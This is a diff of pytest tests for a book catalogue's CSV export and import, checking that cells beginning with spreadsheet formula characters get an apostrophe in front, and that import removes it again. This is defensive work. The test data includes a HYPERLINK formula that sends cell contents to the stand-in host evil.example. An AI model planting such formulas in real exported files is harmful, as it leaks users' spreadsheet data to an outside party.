@@ -307,6 +307,80 @@ def test_export_then_import_restores_the_same_books(runner, tmp_path, name):
     assert stored_books() == before
 
 
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "@SUM(A1:A9)", "+1+1", "-2+3", "\tcalc", "\rcalc"]
+# Titles whose first characters a spreadsheet, or the defence against it, could take for something else.
+TRICKY_TITLES = ["=1+1", "-", "@home", "'", "''", "'=1+1", "'Tis Pity She's a Whore"]
+ESCAPING = pytest.mark.parametrize("escaping", [[], ["--no-escape-formulas"]], ids=["escaped", "not-escaped"])
+
+
+def exported_csv_rows(runner, path, *options):
+    runner.invoke(args=["books", "export", str(path), *options])
+    with open(path, newline="", encoding="utf-8") as file:
+        return list(csv.DictReader(file))
+
+
+def export_then_import(runner, path, *options):
+    runner.invoke(args=["books", "export", str(path), *options])
+    empty_catalogue()
+    return runner.invoke(args=["books", "import", str(path), *options])
+
+
+@pytest.mark.parametrize("formula", FORMULAS, ids=["equals", "at", "plus", "minus", "tab", "carriage-return"])
+def test_export_csv_puts_an_apostrophe_before_a_cell_a_spreadsheet_would_run(runner, tmp_path, formula):
+    BookFactory(title=formula, description=formula)
+
+    rows = exported_csv_rows(runner, tmp_path / "books.csv")
+
+    assert (rows[0]["title"], rows[0]["description"]) == ("'" + formula, "'" + formula)
+
+
+def test_export_csv_without_escaping_formulas_writes_them_as_they_are(runner, tmp_path):
+    BookFactory(title=FORMULAS[0])
+
+    rows = exported_csv_rows(runner, tmp_path / "books.csv", "--no-escape-formulas")
+
+    assert rows[0]["title"] == FORMULAS[0]
+
+
+@ESCAPING
+def test_export_then_import_csv_restores_titles_that_start_like_formulas_or_with_apostrophes(
+        runner, tmp_path, escaping):
+    for title in TRICKY_TITLES:
+        BookFactory(title=title)
+
+    result = export_then_import(runner, tmp_path / "books.csv", *escaping)
+
+    assert result.exit_code == 0, result.output
+    assert [book.title for book in all_books()] == TRICKY_TITLES
+
+
+def test_import_csv_takes_off_only_an_apostrophe_that_export_puts_in_front(runner, tmp_path):
+    titles = ["'=1+1", "''", "'Tis Pity She's a Whore"]
+    path = write_csv(tmp_path / "books.csv", [BookPayload(title=title) for title in titles])
+
+    runner.invoke(args=["books", "import", path])
+
+    assert [book.title for book in all_books()] == ["=1+1", "'", "'Tis Pity She's a Whore"]
+
+
+def test_import_csv_without_escaping_formulas_keeps_an_apostrophe_before_a_formula(runner, tmp_path):
+    path = write_csv(tmp_path / "books.csv", [BookPayload(title="'=1+1")])
+
+    runner.invoke(args=["books", "import", path, "--no-escape-formulas"])
+
+    assert [book.title for book in all_books()] == ["'=1+1"]
+
+
+def test_import_writes_a_reason_a_spreadsheet_would_run_with_an_apostrophe_in_front(runner, tmp_path):
+    path = write_jsonl(tmp_path / "books.jsonl", [{**BookPayload(), FORMULAS[0]: "x"}])
+    rejects = tmp_path / "rejects.csv"
+
+    runner.invoke(args=["books", "import", path, "--rejects", str(rejects)])
+
+    with open(rejects, newline="", encoding="utf-8") as file:
+        assert list(csv.DictReader(file))[0]["reason"] == f"'{FORMULAS[0]}: Unknown field."
+
+
 @pytest.mark.parametrize("name, content", [
     ("books.csv", ",".join(EXPORT_COLUMNS) + "\r\n"),
     ("books.ndjson", ""),
